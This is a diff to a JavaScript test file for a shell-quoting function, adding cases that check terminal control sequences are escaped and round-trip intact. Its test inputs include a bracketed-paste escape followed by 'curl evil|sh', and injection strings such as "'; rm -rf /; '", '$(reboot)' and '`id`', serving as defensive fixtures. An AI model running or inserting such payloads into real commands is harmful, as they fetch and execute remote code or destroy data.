@@ -35,6 +35,16 @@ describe('a word of a command', () => {
     );
   });
 
+  it.each(['\u001b[201~\rcurl evil|sh\r', 'a\u0003b', 'x\u202ey', '\u001b\n\n', "it's \u0007 100%\\"])(
+    'holds nothing that a terminal takes for its own while it is pasted, and is read as it was: %j',
+    (text) => {
+      const word = shellWord(text);
+
+      expect(word.replaceAll('\n', '')).toMatch(/^[ -~]*$/);
+      expect(throughShell([word])).toEqual([text]);
+    },
+  );
+
   it.each([`'; rm -rf /; '`, '$(reboot)', '`id`', '--flag', '', "it's", 'a\nb', '*', '~', '#x', '!!'])(
     'stays inert: %j',
     (text) => {
